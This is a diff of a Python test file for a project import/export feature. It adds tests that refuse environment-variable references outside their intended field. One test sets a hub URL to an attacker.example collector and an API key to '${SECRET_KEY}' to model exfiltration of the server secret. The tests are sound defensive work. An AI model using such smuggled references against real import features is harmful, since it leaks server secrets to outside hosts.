@@ -133,7 +133,7 @@ def sample_document() -> dict:
                         "expires": None,
                         "script": None,
                         "enabled": True,
-                        "keys": [],
+                        "keys": [{"entity": "anything/goes", "key": "p2", "alias": ""}],
                     },
                 ],
             },
@@ -142,7 +142,7 @@ def sample_document() -> dict:
             {"name": "double", "code": "flow1 = flow1 * 2\n", "description": "Doubles", "timeout": 1.5, "memory_limit_mb": 64}
         ],
         "sinks": [
-            {"name": "archive", "url": f"postgresql+psycopg2://writer:{SINK_PASSWORD}@db/values", "layout": "wide",
+            {"name": "archive", "url": f"postgresql+psycopg2://writer:{SINK_PASSWORD}@db/values", "layout": "tall",
              "table": "values_wide", "enabled": True},
             {"name": "local", "url": "sqlite:///var/values.sqlite3", "layout": "tall", "table": "hubsched_values", "enabled": False},
         ],
@@ -195,7 +195,7 @@ def test_it_imports_every_field_of_a_document():
     script = Script.objects.get(project=project)
     assert (script.code, script.description, script.timeout, script.memory_limit_mb) == ("flow1 = flow1 * 2\n", "Doubles", 1.5, 64)
     sink = Sink.objects.get(name="archive")
-    assert (sink.layout, sink.table, sink.enabled) == ("wide", "values_wide", True)
+    assert (sink.layout, sink.table, sink.enabled) == ("tall", "values_wide", True)
     assert DataSource.objects.get(project=project).url == "mysql+pymysql://reader@erp/orders"
 
 
@@ -287,7 +287,7 @@ def test_replace_with_the_same_document_changes_nothing():
 
 def test_optional_fields_take_the_model_defaults():
     doc = {"format": "hubsched.project/1", "name": "bare", "hubs": [{"name": "h", "url": "ws://h/connect",
-           "groups": [{"name": "g", "trigger": "interval"}]}]}
+           "groups": [{"name": "g", "trigger": "interval", "keys": [{"entity": "e", "key": "k"}]}]}]}  # a group needs a key
     project = project_import(raw=text(doc)).project
     assert project.time_zone == "UTC"
     hub = Hub.objects.get(project=project)
@@ -329,22 +329,124 @@ def test_export_with_include_secrets_writes_them_in_clear():
 
 def test_import_resolves_references_from_the_environment():
     doc = sample_document()
-    doc["hubs"][0]["api_key"] = "${HUB_8_KEY}"
-    doc["data_sources"][0]["url"] = "${ERP_URL}"
-    project_import(raw=text(doc), environ={"HUB_8_KEY": "from-env", "ERP_URL": "sqlite:///erp.db"})
+    doc["hubs"][0]["api_key"] = "${HUB_HUB_A_KEY}"
+    doc["data_sources"][0]["url"] = "${DATA_SOURCE_ERP_URL}"
+    project_import(raw=text(doc), environ={"HUB_HUB_A_KEY": "from-env", "DATA_SOURCE_ERP_URL": "sqlite:///erp.db"})
     assert Hub.objects.get(name="hub-a").api_key == "from-env"
     assert DataSource.objects.get(name="erp").url == "sqlite:///erp.db"
 
 
 def test_a_reference_to_an_unset_variable_is_an_error_naming_the_field():
     doc = sample_document()
-    doc["hubs"][0]["api_key"] = "${HUB_8_KEY}"
+    doc["hubs"][0]["api_key"] = "${HUB_HUB_A_KEY}"
     doc["sinks"][0]["url"] = "${SINK_ARCHIVE_URL}"
     assert import_errors(text(doc), environ={}) == [
-        "hubs[0].api_key: environment variable HUB_8_KEY is not set",
+        "hubs[0].api_key: environment variable HUB_HUB_A_KEY is not set",
         "sinks[0].url: environment variable SINK_ARCHIVE_URL is not set",
     ]
     assert not Project.objects.exists()
+
+
+def test_the_attackers_hub_key_of_secret_key_is_refused_and_nothing_is_written(monkeypatch, existing_project):
+    # the attack: a key of ${SECRET_KEY} was imported, exported back, and sent to whatever URL the document names
+    monkeypatch.setenv("SECRET_KEY", "the-servers-django-secret-93b1")
+    doc = sample_document()
+    doc["hubs"][0]["url"] = "ws://attacker.example:80/collect"
+    doc["hubs"][0]["api_key"] = "${SECRET_KEY}"
+    errors = refused(text(doc), existing_project)
+    assert errors == [
+        'hubs[0].api_key: refused reference: this field takes only ${HUB_HUB_A_KEY}, the key of hub "hub-a"; '
+        "import reads no other environment variable"
+    ]
+    assert "the-servers-django-secret-93b1" not in " ".join(errors)
+    assert Hub.objects.get(name="hub-a").api_key == KEY_A
+
+
+@pytest.mark.parametrize(
+    ("section", "index", "field", "reference"),
+    [
+        ("hubs", 0, "api_key", "${SINK_ARCHIVE_URL}"),  # a sink's variable in a hub key
+        ("hubs", 0, "api_key", "${HUB_HUB_B_KEY}"),  # another hub's key, sent to this hub's URL
+        ("hubs", 0, "api_key", "${hub_hub_a_key}"),  # not what export writes
+        ("hubs", 0, "api_key", "${PATH}"),
+        ("hubs", 0, "api_key", "${}"),
+        ("sinks", 0, "url", "${HUB_HUB_A_KEY}"),
+        ("sinks", 0, "url", "${DATA_SOURCE_ERP_URL}"),
+        ("data_sources", 0, "url", "${SINK_ARCHIVE_URL}"),
+        ("data_sources", 0, "url", "${DATABASE_URL}"),
+    ],
+)
+def test_a_reference_outside_the_field_it_is_made_for_is_refused(existing_project, section, index, field, reference):
+    doc = sample_document()
+    doc[section][index][field] = reference
+    environ = {name: "set-" + name for name in ("SINK_ARCHIVE_URL", "HUB_HUB_A_KEY", "HUB_HUB_B_KEY", "hub_hub_a_key", "PATH",
+                                                 "DATA_SOURCE_ERP_URL", "DATABASE_URL", "")}
+    (error,) = refused(text(doc), existing_project, environ=environ)
+    assert error.startswith(f"{section}[{index}].{field}: refused reference: this field takes only ${{")
+    assert "set-" not in error
+
+
+def test_every_refused_reference_is_reported_at_once(existing_project):
+    doc = sample_document()
+    doc["hubs"][0]["api_key"] = "${SECRET_KEY}"
+    doc["hubs"][1]["api_key"] = "${HUB_HUB_A_KEY}"
+    doc["sinks"][1]["url"] = "${SINK_ARCHIVE_URL}"
+    errors = refused(text(doc), existing_project, environ={"SECRET_KEY": "x", "HUB_HUB_A_KEY": "y", "SINK_ARCHIVE_URL": "z"})
+    assert [e.split(":")[0] for e in errors] == ["hubs[0].api_key", "hubs[1].api_key", "sinks[1].url"]
+    assert "${HUB_HUB_B_KEY}" in errors[1] and "${SINK_LOCAL_URL}" in errors[2]
+
+
+def test_a_reference_among_other_text_is_taken_literally_and_never_resolved():
+    doc = sample_document()
+    doc["hubs"][0]["api_key"] = "k-${SECRET_KEY}"
+    project_import(raw=text(doc), environ={"SECRET_KEY": "resolved"})
+    assert Hub.objects.get(name="hub-a").api_key == "k-${SECRET_KEY}"
+
+
+def test_a_url_reference_to_an_empty_variable_is_refused(existing_project):
+    doc = sample_document()
+    doc["sinks"][0]["url"] = "${SINK_ARCHIVE_URL}"
+    assert refused(text(doc), existing_project, environ={"SINK_ARCHIVE_URL": ""}) == [
+        "sinks[0].url: environment variable SINK_ARCHIVE_URL is empty"
+    ]
+
+
+def test_references_of_names_that_fold_together_take_each_its_own_hashed_variable():
+    doc = sample_document()
+    doc["hubs"][1]["name"] = "hub_a"
+    doc["hubs"][1]["api_key"] = "another-key"
+    exported = project_export(project=project_import(raw=text(doc)).project)
+    refs = {hub["name"]: hub["api_key"][2:-1] for hub in json.loads(exported)["hubs"]}
+    Project.objects.all().delete()
+    swapped = json.loads(exported)
+    swapped["hubs"][0]["api_key"], swapped["hubs"][1]["api_key"] = swapped["hubs"][1]["api_key"], swapped["hubs"][0]["api_key"]
+    environ = {refs["hub-a"]: KEY_A, refs["hub_a"]: "another-key", "SINK_ARCHIVE_URL": "sqlite:///var/a.sqlite3"}
+    assert [e.split(":")[0] for e in import_errors(text(swapped), environ=environ)] == ["hubs[0].api_key", "hubs[1].api_key"]
+    project_import(raw=exported, environ=environ)
+    assert {h.name: h.api_key for h in Hub.objects.all()} == {"hub-a": KEY_A, "hub_a": "another-key"}
+
+
+def test_export_then_import_round_trips_with_references_and_include_secrets_still_gives_clear_keys():
+    project = project_import(raw=text(sample_document())).project
+    with_refs = project_export(project=project)
+    clear = json.loads(project_export(project=project, include_secrets=True))
+    assert clear["hubs"][0]["api_key"] == KEY_A and SINK_PASSWORD in clear["sinks"][0]["url"]
+    Project.objects.all().delete()
+    environ = {"HUB_HUB_A_KEY": KEY_A, "SINK_ARCHIVE_URL": clear["sinks"][0]["url"]}
+    project = project_import(raw=with_refs, environ=environ).project
+    assert project_export(project=project) == with_refs
+    assert json.loads(project_export(project=project, include_secrets=True)) == clear
+
+
+def test_a_sink_url_with_a_secret_query_value_is_exported_as_a_reference():
+    doc = sample_document()
+    doc["sinks"][1]["url"] = "postgresql://db/values?password=qv-7781"
+    doc["data_sources"][0]["url"] = "postgresql://db/erp?application_name=a%20b"  # nothing secret in it
+    exported = project_export(project=project_import(raw=text(doc)).project)
+    assert "qv-7781" not in exported
+    out = json.loads(exported)
+    assert out["sinks"][1]["url"] == "${SINK_LOCAL_URL}"
+    assert out["data_sources"][0]["url"] == "postgresql://db/erp?application_name=a%20b"
 
 
 def test_keys_never_appear_in_errors_or_logs(caplog):
